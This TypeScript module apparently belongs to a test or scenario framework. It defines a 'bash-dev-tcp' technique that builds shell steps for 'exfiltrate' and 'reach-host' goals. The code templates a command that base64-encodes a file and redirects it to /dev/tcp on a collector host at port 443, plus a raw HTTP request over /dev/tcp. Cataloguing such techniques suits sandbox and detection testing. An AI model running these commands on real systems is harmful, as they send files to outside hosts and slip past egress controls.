// bash opens /dev/tcp/HOST/PORT as a socket: a redirection is a network client with no binary at all.
import { bash } from '../../scenarios/steps.ts';
import { shPath } from '../shellText.ts';
import type { Technique } from '../types.ts';

export const devTcp: Technique = {
  id: 'bash-dev-tcp',
  title: 'bash redirection to /dev/tcp',
  source: 'https://www.gnu.org/software/bash/manual/html_node/Redirections.html',
  goals: ['exfiltrate', 'reach-host'],
  build: (goal) => {
    if (goal.kind === 'exfiltrate') return { steps: [bash(`base64 ${shPath(goal.path)} > /dev/tcp/${goal.collector}/443`)] };
    if (goal.kind === 'reach-host') {
      const host = /^https?:\/\/([^/:]+)/.exec(goal.url)?.[1];
      return host ? { steps: [bash(`printf 'GET / HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/${host}/443`)] } : null;
    }
    return null;
  },
};
